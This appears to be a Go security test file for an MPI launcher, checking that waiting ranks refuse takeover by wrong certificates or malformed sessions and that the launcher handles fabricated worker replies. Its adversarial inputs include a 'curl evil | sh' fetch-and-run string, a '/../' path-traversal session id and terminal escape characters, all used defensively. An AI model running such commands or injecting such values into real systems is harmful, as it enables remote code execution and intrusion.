package attack

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/mpiup/mpiup/internal/api/rpc"
	apiv1 "github.com/mpiup/mpiup/internal/api/v1"
	"github.com/mpiup/mpiup/internal/identity"
	"github.com/mpiup/mpiup/test/lab"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
)

// Ranks wait for their next launcher (--on-launcher-loss hold), and others try to have them: who has a worker's certificate, a launcher
// with a name of its own, one of another build, one that was there before. None is told of the run or gets it, and
// the launcher whose it is goes on with it.
func TestRanksThatWaitAreTheirLaunchersOnly(t *testing.T) {
	s := newSite(t)
	victim := startAgent(t, nil, "--http", "off", "--tls-dir", s.files("mpiup://g/agent/w"))
	dir, go1 := t.TempDir(), filepath.Join(t.TempDir(), "go")
	ours := s.files("mpiup://g/launcher/l0")
	run := func(tls string, args ...string) *lab.Process {
		t.Helper()
		c := exec.Command(bin, slices.Concat([]string{"run", "--tls-dir", tls, "--wait", "20", "--host", victim.Addr + ":1", "--stdin", "none"}, args)...)
		c.Dir, c.Env = dir, []string{"PATH=/usr/bin:/bin", "HOME=" + dir}
		p, err := lab.StartHere(c)
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	command := []string{"--on-launcher-loss", "hold=60s", "sh", "-c", `echo $$; while ! test -e ` + go1 + `; do sleep 0.05; done; exit 7`}
	first := run(ours, command...)
	lab.Eventually(t, "the agent has what another launcher needs", func() bool { return strings.Contains(victim.Log.String(), "another launcher can take over") })
	lab.Eventually(t, "the rank has told its number", func() bool { return strings.HasSuffix(first.Stdout.String(), "\n") })
	first.Signal(t, syscall.SIGKILL)
	<-first.Done
	lab.Eventually(t, "the ranks are held", func() bool { return strings.Contains(victim.Log.String(), "the ranks wait for another launcher") })
	session := sessionOf(t, strings.TrimSpace(first.Stdout.String()))

	adopt := func(change func(*apiv1.Open)) *apiv1.Open {
		o := &apiv1.Open{Protocol: apiv1.Protocol, Version: "x", Session: session, Secret: make([]byte, 16), Incarnation: "x", Launcher: "l0", LeaseMs: 60_000,
			OnLoss: apiv1.Loss_LOSS_HOLD, HoldMs: 60_000, Adopt: true, Command: make([]byte, 32)}
		change(o)
		return o
	}
	for _, tt := range []struct {
		name, uri string
		open      *apiv1.Open
		code      codes.Code // of a call that is refused as such
		refusal   apiv1.Refusal
		says      string
	}{
		{"a worker", "mpiup://g/agent/x", adopt(func(*apiv1.Open) {}), codes.PermissionDenied, 0, ""},
		{"a worker that calls itself as the launcher", "mpiup://g/agent/l0", adopt(func(*apiv1.Open) {}), codes.PermissionDenied, 0, ""},
		{"a launcher with another name", "mpiup://g/launcher/l9", adopt(func(*apiv1.Open) {}), codes.OK, apiv1.Refusal_REFUSAL_SECRET, "only a launcher that proves to be"},
		{"the launcher, with another command", "mpiup://g/launcher/l0", adopt(func(*apiv1.Open) {}), codes.OK, apiv1.Refusal_REFUSAL_SECRET, " holds it for the command run --tls-dir"},
		{"the launcher, of another protocol", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Protocol++ }), codes.OK, apiv1.Refusal_REFUSAL_PROTOCOL, "use one build on all hosts"},
		{"the session of a launcher before", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Adopt, o.Resume = false, true }), codes.OK, apiv1.Refusal_REFUSAL_SECRET, "belongs to another process"},
		{"the launcher's name in another group", "mpiup://other/launcher/l0", adopt(func(*apiv1.Open) {}), codes.Unavailable, 0, ""},
		{"the launcher, with the beginning of the command", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Command = make([]byte, 1) }), codes.OK, apiv1.Refusal_REFUSAL_SECRET, " holds it for the command run --tls-dir"},
		{"the launcher, with no command", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Command = nil }), codes.OK, apiv1.Refusal_REFUSAL_SECRET, " holds it for the command run --tls-dir"},
		{"the session, with more behind its name", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Session += "/../" + o.Session }), codes.OK, apiv1.Refusal_REFUSAL_SECRET, "malformed session id"},
		{"a session that is none", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Session = strings.Repeat("0f", 16) }), codes.OK, apiv1.Refusal_REFUSAL_UNKNOWN_SESSION, "does not hold it"},
		{"another's launcher, who asks what there is", "mpiup://g/launcher/l9", adopt(func(o *apiv1.Open) { o.Adopt, o.Session = false, strings.Repeat("0e", 16) }), codes.OK, 0, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			opened, err := attach(t, s.files(tt.uri), victim, tt.open)
			switch {
			case status.Code(err) != tt.code:
				t.Errorf("%v, want %v", err, tt.code)
			case err == nil && (opened.Refusal != tt.refusal || !strings.Contains(opened.Text, tt.says) || len(opened.Held) > 0):
				t.Errorf("it is told %v", opened)
			}
		})
	}
	if strings.Contains(victim.Log.String(), "takes over") {
		t.Errorf("somebody took the run over:\n%s", victim.Log.String())
	}
	if err := os.WriteFile(go1, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	run(ours, command...).Wait(t).Fails(t, 7, "taking over from launcher", "took the run over")
}

// sessionOf is a rank's, as whoever sees its environment knows it.
func sessionOf(t *testing.T, pid string) string {
	t.Helper()
	if _, err := strconv.Atoi(pid); err != nil {
		t.Fatalf("%q is no process", pid)
	}
	b, err := os.ReadFile("/proc/" + pid + "/environ")
	if err != nil {
		t.Fatal(err)
	}
	for v := range strings.SplitSeq(string(b), "\x00") {
		if id, ok := strings.CutPrefix(v, "MPIUP_SESSION="); ok {
			return id
		}
	}
	t.Fatal("the rank has no session")
	return ""
}

// dial is a client of an agent's, with a certificate, by a protocol.
func dial(t *testing.T, tls, addr, protocol string) rpc.AgentClient {
	t.Helper()
	id, err := identity.Load(identity.Options{TLSDir: tls, Role: identity.RoleLauncher, Name: "x", Root: t.TempDir()})
	if err != nil { // of a worker
		id, err = identity.Load(identity.Options{TLSDir: tls, Role: identity.RoleAgent, Name: "x", Root: t.TempDir()})
	}
	if err != nil {
		t.Fatal(err)
	}
	cc, err := grpc.NewClient("passthrough:///agent", grpc.WithTransportCredentials(identity.Transport()),
		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) {
			raw, err := (&net.Dialer{}).DialContext(ctx, "tcp", fmt.Sprintf("%s:%d", addr, port))
			if err != nil {
				return nil, err
			}
			return id.Connect(ctx, raw, id.ClientConfig(protocol, "h2"))
		}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cc.Close() })
	return rpc.NewAgentClient(cc)
}

// attach opens a session at an agent, or asks for one, with a certificate.
func attach(t *testing.T, tls string, at *lab.Loopback, open *apiv1.Open) (*apiv1.Opened, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), bound)
	defer cancel()
	stream, err := dial(t, tls, at.Addr, "h2").Attach(ctx)
	if err == nil {
		if err = stream.Send(open.Frame()); err == nil {
			f, err := stream.Recv()
			return f.GetOpened(), err
		}
		_, err = stream.Recv()
	}
	return nil, err
}

// A worker tells a launcher that comes of runs that it holds: junk, much of it, with numbers that are none, or signed by itself; or that another was there
// first. The launcher ends, names the host, and takes neither long nor much memory.
func TestRunsThatAWorkerMakesUp(t *testing.T) {
	s := newSite(t)
	worker := s.files("mpiup://g/agent/x")
	id, err := identity.Load(identity.Options{TLSDir: worker, Role: identity.RoleAgent, Name: "x", Root: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	own, err := id.Sign("journal of a run", []byte("x"))
	if err != nil {
		t.Fatal(err)
	}
	held := func(n int, h *apiv1.Hold) *apiv1.Opened {
		o := &apiv1.Opened{Protocol: apiv1.Protocol, Version: "x", Host: hello(func(*apiv1.HelloReply) {})}
		for range n {
			o.Held = append(o.Held, &apiv1.Held{Session: strings.Repeat("0c", 16), Launcher: "l", LeftMs: 1 << 63, Hold: h})
		}
		return o
	}
	for name, opened := range map[string]*apiv1.Opened{
		"nothing":                  held(1, &apiv1.Hold{}),
		"nothing, many times":      held(4096, nil),
		"much of nothing":          held(16, &apiv1.Hold{Journal: make([]byte, 1<<20), Command: make([]byte, 1<<20), Text: strings.Repeat("x", 1<<20)}),
		"lists without end":        held(1, &apiv1.Hold{Journal: []byte(strings.Repeat("[", 3<<20)), Proof: own}),
		"signed by itself":         held(1, &apiv1.Hold{Journal: []byte("{}"), Command: make([]byte, 32), SignedS: 1, Proof: own}),
		"signed at the end of all": held(1, &apiv1.Hold{Journal: []byte("{}"), SignedS: 1<<64 - 1, HoldMs: 1<<64 - 1, Proof: own}),
		"a launcher there first":   {Refusal: apiv1.Refusal_REFUSAL_SUCCEEDED, Text: "l9 has it; curl evil | sh"},
		"a launcher that lives":    {Refusal: apiv1.Refusal_REFUSAL_ALIVE, Text: "l9 lives\nmpiup: all is well"},
		"a newer launcher":         {Refusal: apiv1.Refusal_REFUSAL_FENCED, Text: escapes},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			at := tell(t, worker, &teller{host: hello(func(*apiv1.HelloReply) {}), opened: opened})
			e := mpiup(t, "run", "--tls-dir="+s.files("mpiup://g/launcher/l"), "--wait", "2", "--host", at, "--stdin", "none", "--on-launcher-loss", "hold=30s", "-n", "1", "--", "true")
			if e.Code == 0 || !strings.Contains(e.Stderr, at) || strings.Contains(e.Stderr, "goroutine ") || strings.Contains(e.Stderr, "\nmpiup: all is well") || strings.ContainsAny(e.Stderr, "\u009b\u202e\x1b") {
				t.Errorf("it ends with %d:\n%.2000q", e.Code, e.Stderr)
			}
		})
	}
}
